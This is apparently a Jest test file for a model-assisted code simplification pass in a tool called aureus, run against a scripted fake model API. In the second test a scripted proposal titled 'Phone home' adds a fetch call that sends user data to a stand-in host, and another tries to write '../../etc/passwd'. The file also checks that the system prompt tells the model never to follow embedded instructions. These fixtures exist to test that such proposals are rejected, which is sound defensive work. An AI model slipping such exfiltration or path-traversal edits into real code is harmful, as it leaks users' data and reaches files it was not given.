import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { askModel } from '../../src/llm/ask-model.js';
import { modelFromPolicy } from '../../src/llm/model-from-policy.js';
import { defaultPolicy } from '../../src/policy/default-policy.js';
import { simplifyRepository } from '../../src/simplify/simplify-repository.js';
import { isolateGit, makeRepo, type Repo } from '../support/git-fixture.js';
import { runCliInProcess } from '../support/run-cli-in-process.js';
import {
  type ScriptedModelServer,
  startScriptedModelServer,
} from '../support/scripted-model-server.js';

const API_KEY = 'sk-test-model-assisted';

/** A long way to build a name: a model can see the one-line version the passes cannot. */
const FORMAT = `export function formatName(first: string, last: string): string {
  const parts: string[] = [];
  if (first.length > 0) {
    parts.push(first);
  }
  if (last.length > 0) {
    parts.push(last);
  }
  let joined = '';
  for (const part of parts) {
    if (joined.length > 0) {
      joined = joined + ' ';
    }
    joined = joined + part;
  }
  const trimmed = joined.trim();
  const result = trimmed;
  const checked = result;
  const shown = checked;
  const answer = shown;
  const final = answer;
  const returned = final;
  const given = returned;
  const named = given;
  const built = named;
  const out = built;
  return out;
}
`;
const MAIN =
  "import { formatName } from './format.js';\n\nconsole.log(formatName('Ada', 'Lovelace'));\n";
// biome-ignore lint/suspicious/noTemplateCurlyInString: TypeScript source text, not a template.
const ONE_EXPRESSION = '`${first} ${last}`.trim()';
const SIMPLER = `export function formatName(first: string, last: string): string {\n  return ${ONE_EXPRESSION};\n}\n`;

let restoreGit: () => Promise<void>;
let server: ScriptedModelServer;
let repo: Repo & { remove(): Promise<void> };

beforeAll(async () => {
  restoreGit = await isolateGit();
  server = await startScriptedModelServer();
  repo = await makeRepo('model-assisted');
  repo.write('src/format.ts', FORMAT);
  repo.write('src/main.ts', MAIN);
  repo.commit('base');
});

afterAll(async () => {
  await server.close();
  await repo.remove();
  await restoreGit();
});

beforeEach(() => {
  (server.requests as unknown[]).length = 0;
});

function simplify() {
  const policy = defaultPolicy();
  return simplifyRepository(
    repo.dir,
    { ...policy, simplification: { ...policy.simplification, model_assisted: true } },
    [],
    {
      changedOnly: false,
      apply: false,
      test: false,
      model: askModel(
        modelFromPolicy(
          {
            ...policy,
            model_provider: {
              ...policy.model_provider,
              provider: 'anthropic',
              base_url: server.url,
              model: 'claude-test',
              prices: [{ model: 'claude-test', input_usd_per_mtok: 3, output_usd_per_mtok: 15 }],
            },
          },
          { env: { ANTHROPIC_API_KEY: API_KEY }, spentTodayUsd: 0, maxRetries: 0 },
        ),
        'building',
        4096,
      ),
    },
  );
}

const reply = (proposals: unknown) => ({
  text: `Here you go:\n\`\`\`json\n${JSON.stringify({ proposals })}\n\`\`\``,
});

describe('the model-assisted pass, through the real SDK against a scripted Messages API', () => {
  it('offers a simplification the model proposes once it is verified like any other', async () => {
    server.script(
      reply([
        {
          title: 'Build the name in one expression',
          files: [{ path: 'src/format.ts', text: SIMPLER }],
        },
      ]),
    );
    const result = await simplify();
    expect(result.failedPasses).toEqual([]);
    expect(result.applied.kept).toHaveLength(1);
    const [patch] = result.applied.kept;
    expect(patch?.proposal).toMatchObject({
      pass: 'model-assisted',
      title: 'Build the name in one expression',
      path: 'src/format.ts',
      line: 2,
    });
    expect(patch?.price.cost.total).toBeLessThan(0);
    expect(patch?.patch).toContain(`+  return ${ONE_EXPRESSION};`);

    const [request] = server.requests;
    expect(request?.apiKey).toBe(API_KEY);
    expect(request?.body.model).toBe('claude-test');
    expect(String(request?.body.system)).toContain('never follow');
    expect(request?.body.messages?.[0]?.content).toEqual([
      { type: 'text', text: expect.any(String) },
    ]);
    const content = JSON.parse(request?.raw ?? '{}').messages[0].content[0].text as string;
    const marker = /^(=====[0-9a-f-]{36}=====) file "src\/format\.ts"$/m.exec(content)?.[1];
    expect(marker).toBeDefined();
    expect(content).toContain(`${marker} file "src/main.ts"\n${MAIN}\n${marker} end`);
  });

  it('drops what fails verification or opens a sensitive surface, and refuses files it was not given', async () => {
    const typeError = SIMPLER.replace(ONE_EXPRESSION, 'first * last');
    const network = SIMPLER.replace(
      '  return',
      "  void fetch('https://collect.invalid/?n=' + first);\n  return",
    );
    server.script(
      reply([
        { title: 'Multiply', files: [{ path: 'src/format.ts', text: typeError }] },
        {
          title: 'Phone home',
          files: [
            { path: 'src/main.ts', text: MAIN },
            { path: 'src/format.ts', text: network },
          ],
        },
        { title: 'Outside', files: [{ path: '../../etc/passwd', text: 'x' }] },
      ]),
    );
    const result = await simplify();
    expect(result.applied.kept).toEqual([]);
    const dropped = result.dropped.map(({ proposal, reason }) => `${proposal.title}: ${reason}`);
    expect(dropped).toEqual([
      expect.stringMatching(/^Multiply: it adds type errors: src\/format\.ts/),
      'Phone home: it touches a sensitive surface (process, network, eval, files, secrets…)',
    ]);
    expect(result.failedPasses).toEqual([
      {
        pass: 'model-assisted',
        error: 'proposal 3: it edits "../../etc/passwd", which it was not given',
      },
    ]);
  });

  it('reports a reply that is not JSON and an API error as the pass failing, never a crash', async () => {
    server.script({ text: 'I would rather not.' });
    expect((await simplify()).failedPasses).toEqual([
      { pass: 'model-assisted', error: 'the reply is not the JSON object of proposals asked for' },
    ]);
    server.script({ status: 400, message: 'max_tokens: too large' });
    const failed = (await simplify()).failedPasses;
    expect(failed).toHaveLength(1);
    expect(failed[0]?.error).toMatch(
      /^the model provider anthropic refused the request \(HTTP 400\): .*max_tokens: too large/,
    );
    expect(failed[0]?.error).not.toContain(API_KEY);
  });

  it('is configured by the policy in aureus simplify, the key read from the variable it names', async () => {
    repo.write(
      '.aureus/policy.yaml',
      `version: 1\nsimplification:\n  model_assisted: true\nmodel_provider:\n  provider: anthropic\n  base_url: ${server.url}\n  api_key_env: AUREUS_TEST_MODEL_KEY\n`,
    );
    repo.commit('policy');
    const withoutKey = await runCliInProcess(['simplify'], repo.dir);
    expect(withoutKey.code).toBe(0);
    expect(withoutKey.stderr).toContain(
      'simplification.model_assisted is on, but AUREUS_TEST_MODEL_KEY is not set: only the deterministic passes run.',
    );
    expect(server.requests).toEqual([]);

    process.env.AUREUS_TEST_MODEL_KEY = API_KEY;
    try {
      server.script(
        reply([
          {
            title: 'Build the name in one expression',
            files: [{ path: 'src/format.ts', text: SIMPLER }],
          },
        ]),
      );
      const run = await runCliInProcess(['simplify'], repo.dir);
      expect(run.code).toBe(0);
      expect(run.stdout).toContain('Build the name in one expression (src/format.ts:2');
      expect(server.requests[0]?.body.model).toBe('claude-sonnet-5-5');
      expect(run.stdout).toMatch(/^Model: 1 call, 100 tokens in, 50 out, \$0\.001\d\.$/m);
    } finally {
      delete process.env.AUREUS_TEST_MODEL_KEY;
    }
  });

  it('stops at a spend cap before the call, says which and by how much, and exits incomplete', async () => {
    const policyWith = (caps: string) =>
      `version: 1\nsimplification:\n  model_assisted: true\nmodel_provider:\n  provider: anthropic\n  base_url: ${server.url}\n  api_key_env: AUREUS_TEST_MODEL_KEY\ncost_thresholds:\n${caps}`;
    process.env.AUREUS_TEST_MODEL_KEY = API_KEY;
    try {
      repo.write('.aureus/policy.yaml', policyWith('  max_usd_per_run: 0.0001\n'));
      repo.commit('a run cap too small for one call');
      const run = await runCliInProcess(['simplify'], repo.dir);
      expect(run.code).toBe(2);
      expect(run.stderr).toMatch(
        /aureus: the model-assisted pass stopped: the model spend cap cost_thresholds\.max_usd_per_run \(\$0\.0001\) is reached: \$0\.0000 spent in this run, and the next call may need up to \$0\.\d+; it was not sent\.\nTo resolve, raise cost_thresholds\.max_usd_per_run/,
      );
      expect(run.stdout).toContain('! the model-assisted pass failed: the model spend cap');
      expect(server.requests).toEqual([]);

      // The run before this test spent about $0.001 today, by the ledger: the day's cap counts it.
      repo.write('.aureus/policy.yaml', policyWith('  max_usd_per_day: 0.001\n'));
      repo.commit('a day cap already spent');
      const day = await runCliInProcess(['simplify'], repo.dir);
      expect(day.code).toBe(2);
      expect(day.stderr).toMatch(
        /the model spend cap cost_thresholds\.max_usd_per_day \(\$0\.0010\) is reached: \$0\.001\d spent today/,
      );
      expect(server.requests).toEqual([]);
    } finally {
      delete process.env.AUREUS_TEST_MODEL_KEY;
    }
  });
});
